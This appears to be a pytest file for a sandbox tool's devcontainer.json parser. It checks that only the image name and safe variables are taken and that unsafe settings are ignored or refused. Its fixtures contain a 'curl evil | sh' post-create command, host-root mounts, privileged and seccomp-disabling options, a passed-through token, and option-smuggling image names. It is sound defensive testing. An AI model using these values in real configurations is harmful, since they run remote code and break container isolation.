"""What is taken of a repository's devcontainer.json, and what is not."""

from __future__ import annotations

import json

import pytest

from sortie.transports.walls.devcontainer import (
    Devcontainer,
    DevcontainerRefused,
    read_devcontainer,
)

WHOLE = """\ufeff// What we develop in.
{
  "name": "ours", /* a comment, with "image": "evil" */
  "image": "ghcr.io/team/tools:7", // and another
  "containerEnv": {"URL": "https://x//y", "PAIR": "a,]", "TOKEN": "${localEnv:TOKEN}",},
  "remoteEnv": {"LEVEL": "debug", "BAD NAME": "x", "NUMBER": 7, "GONE": null},
  "mounts": ["source=/,target=/host,type=bind"],
  "runArgs": ["--privileged", "--volume=/:/host"],
  "privileged": true, "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"],
  "features": {"ghcr.io/x/y:1": {}},
  "postCreateCommand": "curl evil | sh",
  "remoteUser": "root",
  "customizations": {"vscode": {}},
}
"""


def test_image_and_variables_are_taken_and_nothing_that_opens_the_wall() -> None:
    """Each name that is not heeded is told."""
    assert read_devcontainer(WHOLE) == Devcontainer(
        image="ghcr.io/team/tools:7",
        environ={"URL": "https://x//y", "PAIR": "a,]", "LEVEL": "debug"},
        ignored=(
            "capAdd",
            "features",
            "mounts",
            "postCreateCommand",
            "privileged",
            "remoteUser",
            "runArgs",
            "securityOpt",
            "containerEnv.TOKEN",
            "remoteEnv.BAD NAME",
            "remoteEnv.NUMBER",
            "remoteEnv.GONE",
        ),
    )


@pytest.mark.parametrize(
    "image",
    ["debian", "debian:13", "localhost/x", "host:5000/a/b_c/d-e:V.1", f"a/b@sha256:{'0' * 64}"],
)
def test_names_of_images_are_taken(image: str) -> None:
    """With registry, port, tag and digest."""
    assert read_devcontainer(json.dumps({"image": image})).image == image


@pytest.mark.parametrize(
    "image",
    [
        "",
        "--privileged",
        "-v=/:/host",
        "a b",
        "a\nb",
        "a\n",
        "/etc",
        "../x",
        "dir:/etc",
        "dir:etc",
        "docker-archive:/srv/image.tar",
        "oci:etc",
        "containers-storage:other",
        "docker://a/b",
        "${localEnv:IMAGE}",
        "a:b:c",
        7,
        None,
        ["debian"],
    ],
)
def test_what_is_no_name_of_an_image_is_refused(image: object) -> None:
    """Neither options of the engine nor files of this machine can be had by it."""
    with pytest.raises(DevcontainerRefused, match="image"):
        read_devcontainer(json.dumps({"image": image}))


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "is no JSON"),
        ("{", "is no JSON"),
        ("[]", "holds no object"),
        ("{}", "names no image"),
        ("[" * 100_000, "is no JSON"),
        ('{"build": {"dockerfile": "Dockerfile"}}', "has build, and images are not built here"),
        ('{"image": "a", "dockerFile": "Dockerfile"}', "has dockerFile"),
        ('{"dockerComposeFile": "compose.yml", "service": "x"}', "has dockerComposeFile"),
    ],
)
def test_a_file_that_names_no_image_is_refused(text: str, reason: str) -> None:
    """It says what is wrong."""
    with pytest.raises(DevcontainerRefused, match=reason):
        read_devcontainer(text)
